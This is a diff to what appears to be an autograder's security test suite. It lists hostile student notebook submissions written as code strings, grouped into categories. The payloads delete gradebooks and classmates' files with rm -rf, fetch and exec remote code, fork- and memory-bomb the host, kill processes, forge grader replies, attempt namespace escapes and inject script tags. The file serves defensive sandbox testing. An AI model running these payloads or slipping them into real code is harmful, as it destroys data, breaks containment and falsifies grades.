@@ -30,7 +30,7 @@ class Attack:
     kl: str = KL
     change: Callable[[nbformat.NotebookNode], object] | None = None
     files: Callable[[Path], object] | None = None
-    status: str = ""  # of the row of elbo_beta
+    status: str = ""  # of the row of elbo_beta; several, with | between
     raw: bytes | None = None
     least: float | None = None  # a wrong constant may obey a law or two: up to this many points more
     harms_itself: bool = False  # what else stands in the same notebook may suffer
@@ -89,12 +89,12 @@ def _pipe(folder: Path):
 
 
 HUNT = ("import glob, os\n"
-        "for pattern in ('/work/**/gradebook.db', '/tmp/**/gradebook.db', '/**/submitted/*', '../*', '../../*'):\n"
-        "    for path in glob.glob(pattern, recursive='work' not in pattern)[:200]:\n"
-        "        {action}\n")
+        "for pattern in ('{parent}/*/gradebook.db', '{tree}/submitted/*', '/tmp/**/gradebook.db', '../*', '../../*'):\n"
+        "    for path in glob.glob(pattern, recursive=True)[:200]:\n"
+        "        os.system(f'rm -rf {{path}}')\n")
 
-ATTACKS = [
-    # ------------------------------------------------------------------ files of others
+FILES = [
+    # files of others
     Attack("deletes_the_gradebook", beta="import os, shutil\nfor f in ('{tree}/gradebook.db', '{tree}/submitted'):\n"
            "    shutil.rmtree(f, ignore_errors=True)\n    try: os.unlink(f)\n    except OSError: pass\n" + STUB),
     Attack("rewrites_scores", beta="import sqlite3\ndb = sqlite3.connect('{tree}/gradebook.db')\n"
@@ -110,12 +110,14 @@ ATTACKS = [
     Attack("imports_the_autograder", beta="import autograder.examiner.trusted as t\n" + STUB),
     Attack("copies_a_classmate", beta="import json\nnb = json.load(open('{tree}/submitted/honest_0/09_hostile/09_hostile.ipynb'))\n"
            "exec([''.join(c['source']) for c in nb['cells'] if 'def elbo_beta' in ''.join(c['source'])][0])\n"),
-    Attack("hunts_outside_its_folder", beta=HUNT.format(action="os.system(f'rm -rf {{path}}')") .replace("{{", "{").replace("}}", "}") + STUB),
+    Attack("hunts_outside_its_folder", beta=HUNT + STUB),
     Attack("links_to_the_gradebook", files=_link("{tree}/gradebook.db"), beta="open('data.txt', 'wb').write(b'')\n" + STUB),
     Attack("hands_in_a_link_to_a_classmate", files=_notebook_link, scores=(0.0, 0.0), status="missing"),
     Attack("hands_in_a_huge_file", files=_huge_file, beta=BETA, scores=(4.0, 4.0)),
     Attack("hands_in_a_pipe", files=_pipe, beta=BETA, scores=(4.0, 4.0)),
-    # ------------------------------------------------------------------ the machine
+]
+MACHINE = [
+    # the machine
     Attack("calls_home", beta="import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=3).read())\n"),
     Attack("leaves_a_daemon", beta="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        time.sleep(1000)\n    os._exit(0)\n" + STUB),
@@ -123,14 +125,17 @@ ATTACKS = [
            "            time.sleep(100)\n            os._exit(0)\n    except OSError: break\n" + STUB),
     Attack("thread_bomb", beta="import threading, time\nfor i in range(3000):\n    threading.Thread(target=time.sleep, "
            "args=(100,), daemon=True).start()\n" + STUB, harms_itself=True),
-    Attack("memory_bomb", beta="x = [bytearray(200_000_000) for i in range(100)]\n" + STUB, status="crashed"),
+    Attack("memory_bomb", beta="x = [bytearray(200_000_000) for i in range(100)]\n" + STUB,
+           status="crashed|timed_out"),  # a busy machine may reach the limit of time first
     Attack("memory_bomb_in_one_piece", beta="x = bytearray(60_000_000_000)\n" + STUB),
     Attack("fills_the_disk", beta="f = open('/tmp/fill', 'wb')\nfor i in range(4000): f.write(bytes(1_000_000))\n" + STUB),
     Attack("prints_50_MB", beta="print('x' * 50_000_000)\n" + STUB),
     Attack("prints_without_end", beta="while True: print('x' * 1000)\n" + STUB, status="timed_out"),
     Attack("kills_everything", beta="import os, signal\nos.kill(-1, signal.SIGKILL)\n" + STUB),
     Attack("signals_its_parent", beta="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + STUB),
-    # ------------------------------------------------------------------ never ending
+]
+ENDLESS = [
+    # never ending
     Attack("loops", beta=_call("while True: pass"), status="timed_out"),
     Attack("loops_in_a_cell", beta="while True: pass\n" + STUB, status="timed_out"),
     Attack("ignores_interrupts", beta="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n" + _call(
@@ -138,8 +143,10 @@ ATTACKS = [
     Attack("sleeps_in_c", beta="import ctypes\n" + _call("ctypes.PyDLL(None).sleep(1000)"), status="timed_out"),
     Attack("loops_at_exit", beta="import atexit\n@atexit.register\ndef forever():\n    while True: pass\n" + STUB),
     Attack("loops_in_a_thread", beta="import threading\ndef forever():\n    while True: pass\n"
-           "threading.Thread(target=forever).start()\n" + STUB),
-    # ------------------------------------------------------------------ suicide
+           "threading.Thread(target=forever).start()\n" + STUB, harms_itself=True),  # it slows its own process
+]
+SUICIDE = [
+    # suicide
     Attack("exits_at_once", beta="import os; os._exit(0)\n" + STUB, status="crashed"),
     Attack("kills_itself", beta="import os; os.kill(os.getpid(), 9)\n" + STUB, status="crashed"),
     Attack("segfaults", beta="import ctypes; ctypes.string_at(0)\n" + STUB, status="crashed"),
@@ -147,7 +154,9 @@ ATTACKS = [
     Attack("raises_SystemExit", beta=_call("raise SystemExit(0)")),
     Attack("overflows_the_stack", beta=_call("import sys\nsys.setrecursionlimit(10**8)\nreturn elbo_beta(1, 1)")),
     Attack("executes_another_program", beta="import os; os.execv('/bin/true', ['true'])\n" + STUB, status="crashed"),
-    # ------------------------------------------------------------------ tampering with the verdict
+]
+VERDICT = [
+    # tampering with the verdict
     Attack("patches_check", beta="from course_utils import check\nclass S:\n    def __repr__(self): return '4'\n"
            "check.elbo_beta = lambda *a, **k: S()\n" + STUB),
     Attack("replaces_modules", beta="import sys, types\nm = types.ModuleType('check')\nm.elbo_beta = lambda *a, **k: 4\n"
@@ -176,7 +185,9 @@ ATTACKS = [
         c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")])),
     Attack("duplicated_cells", change=_duplicate),
     Attack("renamed_tests", change=_tests(lambda cell: cell.metadata.nbgrader.update(grade_id="test_easy"))),
-    # ------------------------------------------------------------------ forging what passes between the processes
+]
+FORGED = [
+    # forging what passes between the processes
     Attack("forged_replies", status="crashed", beta="import socket, struct, json, os\n"
            "text = json.dumps({{'id': 1, 'value': ['v', 1.0], 'failed': None, 'tensors': [], 'effects': {{'tensors': [], "
            "'modules': [], 'optimisers': []}}}}).encode()\nfor fd in range(3, 40):\n    try:\n"
@@ -197,7 +208,9 @@ ATTACKS = [
            "        open(f'/proc/{{pid}}/mem', 'rb').read(1)\n" + STUB),
     Attack("unmounts_its_walls", beta="import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.unshare(0x10000000) == 0\n"
            "libc.umount2(b'/', 2)\n" + STUB),
-    # ------------------------------------------------------------------ the browser of whoever looks
+]
+BROWSER = [
+    # the browser of whoever looks
     Attack("script_in_output", beta="from IPython.display import HTML, display\ndisplay(HTML('<script>PWNED()</script>"
            "<img src=x onerror=PWNED()>'))\nprint('<script>PWNED()</script>')\n" + BETA, scores=(4.0, 4.0)),
     Attack("script_in_an_error", beta=_call("raise ValueError('<script>PWNED()</script>')")),
@@ -205,7 +218,9 @@ ATTACKS = [
            scores=(4.0, 4.0)),
     Attack("script_in_an_answer", beta=BETA, scores=(4.0, 4.0), change=lambda nb: nb.cells[-1].update(
         source="It is <script>PWNED()</script> <img src=x onerror=PWNED()> [this](javascript:PWNED())")),
-    # ------------------------------------------------------------------ broken files
+]
+BROKEN = [
+    # broken files
     Attack("not_json", raw=b'{"cells": [', scores=(0.0, 0.0), status="unreadable"),
     Attack("empty_file", raw=b"", scores=(0.0, 0.0), status="unreadable"),
     Attack("deeply_nested", raw=b"[" * 100_000, scores=(0.0, 0.0), status="unreadable"),
@@ -213,3 +228,7 @@ ATTACKS = [
     Attack("foreign_kernel", beta=BETA, scores=(4.0, 4.0), change=lambda nb: nb.metadata.update(
         kernelspec={"name": "ir", "display_name": "R", "language": "R"})),
 ]
+
+ATTACKS = [*FILES, *MACHINE, *ENDLESS, *SUICIDE, *VERDICT, *FORGED, *BROWSER, *BROKEN]
+# What the level of isolation has to stop; the rest is the same at every level.
+HARMFUL = [*FILES, *MACHINE, ENDLESS[2], *SUICIDE]
